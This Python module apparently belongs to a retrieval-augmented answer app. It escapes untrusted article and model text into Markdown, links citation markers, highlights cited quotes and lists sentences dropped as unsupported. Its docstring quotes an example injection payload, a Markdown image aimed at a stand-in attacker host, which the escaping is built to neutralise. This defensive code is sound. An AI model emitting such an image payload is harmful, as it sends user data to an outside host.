"""Turning answers and articles into Markdown that shows them as text, whatever they contain.

Article and model text is untrusted: an article may carry `![x](http://attacker/?q=…)`, HTML, or
Streamlit's own directives (`:red[…]`, `$…$`). Every ASCII punctuation character is backslash-escaped
(CommonMark lets any of them be), so none of it can become markup, an image, a link or LaTeX; the only
Markdown in the output is what this module adds: citation links and the highlight.
"""

from __future__ import annotations

import re
import string
import unicodedata
from dataclasses import dataclass

_ESCAPE = str.maketrans({ch: "\\" + ch for ch in string.punctuation})
# Bare URLs, www. names and e-mail addresses are turned into links by the renderer whatever their
# escaping; an invisible word joiner after "://", "www" and "@" keeps them plain text.
_LINKISH = re.compile(r"(?i)(://|\bwww(?=\.)|@)")
_JOINER = "\u2060"
_MARKER = re.compile(r"\[(\d+)\]")
CONTEXT_CHARS = 350  # shown either side of a quote when its paragraph is longer


def terminal_safe(text: str) -> str:
    """Text without control characters other than newline, tab and carriage return (progress bars)."""
    if text.isprintable() or all(ch.isprintable() or ch in "\n\t\r" for ch in text):
        return text
    return "".join(ch for ch in text if ch.isprintable() or ch in "\n\t\r" or unicodedata.category(ch) in ("Zs", "Zl", "Zp"))


def one_line(name: str) -> str:
    """A file name or title as one line of output: a newline in a name must not start a line of its own."""
    return name.translate({10: "\\n", 13: "\\r", 9: "\\t"})


def escape_markdown(text: str, *, inline: bool = False) -> str:
    """The text as Markdown that renders to exactly this text (line breaks kept). A block also loses
    indentation at line starts, which Markdown would read as a code block; `inline` pieces keep it."""
    if not inline:
        text = re.sub(r"(^|\n)[ \t]+", r"\1", text)
    text = _LINKISH.sub(lambda m: m.group(1)[:-1] + _JOINER + m.group(1)[-1:] if m.group(1) == "://"
                        else m.group(1) + _JOINER, text)
    return text.translate(_ESCAPE).replace("\n", "  \n")


def anchor_id(message_index: int) -> str:
    """The anchor of an answer's source list, where its [n] markers lead."""
    return f"sources-{message_index}"


def answer_markdown(answer: str, citation_ids: set[int] | dict[int, str], message_index: int) -> str:
    """The answer as safe Markdown whose [n] markers link to the source list below it (a tap scrolls
    there). Given each citation's quote (`{id: quote}`), a marker's link title is its quote: hovering
    shows it."""
    parts, last = [], 0
    for match in _MARKER.finditer(answer):
        parts.append(escape_markdown(answer[last:match.start()], inline=True))
        number = int(match.group(1))
        quote = citation_ids.get(number) if isinstance(citation_ids, dict) else None
        title = f' "{_link_title(quote)}"' if quote else ""
        parts.append(f"[\\[{number}\\]](#{anchor_id(message_index)}{title})" if number in citation_ids
                     else escape_markdown(match.group(), inline=True))
        last = match.end()
    parts.append(escape_markdown(answer[last:], inline=True))
    return "".join(parts)


def left_out_markdown(support: list[dict]) -> str | None:
    """The sentences of an LLM reply that were left out of the answer, struck through, each with why:
    its cited passages do not support it, or it cites nothing. None when every sentence stayed."""
    lines = []
    for item in support:
        if item.get("supported") is False:
            cited = "".join(f"\\[{n}\\]" for n in item.get("citations") or [])
            why = f"not supported by the passage it cites {cited}".rstrip()
        elif item.get("supported") is None and item.get("citations") == [] and not _is_abstention(item["sentence"]):
            why = "cites no passage"
        else:
            continue
        lines.append(f"- :orange[~~{escape_markdown(item['sentence'], inline=True)}~~] — {why}")
    if not lines:
        return None
    return "Left out of the answer (the model wrote it, the articles do not back it):\n\n" + "\n".join(lines)


def _is_abstention(sentence: str) -> bool:
    from rag.answer.citations import is_abstention

    return is_abstention(sentence)


def _link_title(quote: str, limit: int = 240) -> str:
    """A quote as a link title: one line, at most `limit` characters, with `"` and `\\` escaped (a link
    title is an attribute, shown as plain text)."""
    line = " ".join(quote.split())
    line = line if len(line) <= limit else line[: limit - 1].rsplit(" ", 1)[0] + "…"
    return line.replace("\\", "\\\\").replace('"', '\\"')


def short_quote(quote: str, limit: int = 90) -> str:
    """The opening of a quote for a one-line label."""
    line = " ".join(quote.split())
    return line if len(line) <= limit else line[: limit - 1].rsplit(" ", 1)[0] + "…"


@dataclass(frozen=True)
class Highlighted:
    """A paragraph with one or more cited sentences in it: (text, highlighted) pieces in order."""
    pieces: tuple[tuple[str, bool], ...]

    def markdown(self) -> str:
        """Everything escaped; a cited sentence on a tinted background and in bold (the tint alone is
        pale on a phone in daylight)."""
        return "".join(f":orange-background[**{escape_markdown(t, inline=True)}**]" if marked
                       else escape_markdown(t, inline=True) for t, marked in self.pieces)


def paragraph_start(text: str, offset: int) -> int:
    return text.rfind("\n", 0, offset) + 1


def quotes_in_paragraph(text: str, spans: list[tuple[int, int, str]]) -> Highlighted | None:
    """Several cited sentences of one paragraph, each highlighted, the paragraph shown once. None (no
    highlight at all) unless every span is exactly its quote and they share one paragraph."""
    spans = sorted(set(spans))
    if not spans or any(not (0 <= a < b <= len(text)) or text[a:b] != q for a, b, q in spans):
        return None
    start = paragraph_start(text, spans[0][0])
    if any(paragraph_start(text, a) != start for a, _, _ in spans):
        return None
    end = text.find("\n", spans[-1][1])
    end = len(text) if end < 0 else end
    pieces, at = [], start
    for a, b, _ in spans:
        if a < at:  # overlapping quotes: highlight the rest of the later one
            a = at
        if at < a:
            before = text[at:a]
            if at == start and len(before) > CONTEXT_CHARS:
                before = "…" + before[-CONTEXT_CHARS:].split(" ", 1)[-1]
            pieces.append((before, False))
        if a < b:
            pieces.append((text[a:b], True))
        at = max(at, b)
    after = text[at:end]
    if len(after) > CONTEXT_CHARS:
        after = after[:CONTEXT_CHARS].rsplit(" ", 1)[0] + "…"
    if after:
        pieces.append((after, False))
    return Highlighted(tuple(pieces))


def source_entries(citations: list[dict], texts: dict[str, str | None]) -> list[dict]:
    """What the sources under an answer show: one entry per cited paragraph (a paragraph cited twice
    is shown once, every cited sentence in it highlighted), in the order of first citation. Each is
    {"ids", "source", "title", "quotes", "also_in", "markdown"}; "markdown" is None when the article
    (`texts[source]`, None when it is gone) no longer has the quotes where they were: no highlight then."""
    grouped: dict[tuple, list[dict]] = {}
    for citation in citations:
        text = texts.get(citation["source"])
        where = paragraph_start(text, citation["start"]) if text else citation.get("passage_id") or citation["id"]
        grouped.setdefault((citation["source"], where), []).append(citation)
    entries = []
    for (source, _), cited in grouped.items():
        text = texts.get(source)
        highlighted = quotes_in_paragraph(text, [(c["start"], c["end"], c["quote"]) for c in cited]) if text else None
        entries.append({"ids": [c["id"] for c in cited], "source": source, "title": cited[0].get("title", ""),
                        "quotes": list(dict.fromkeys(c["quote"] for c in cited)), "also_in": cited[0].get("also_in", []),
                        "markdown": highlighted.markdown() if highlighted else None})
    return entries
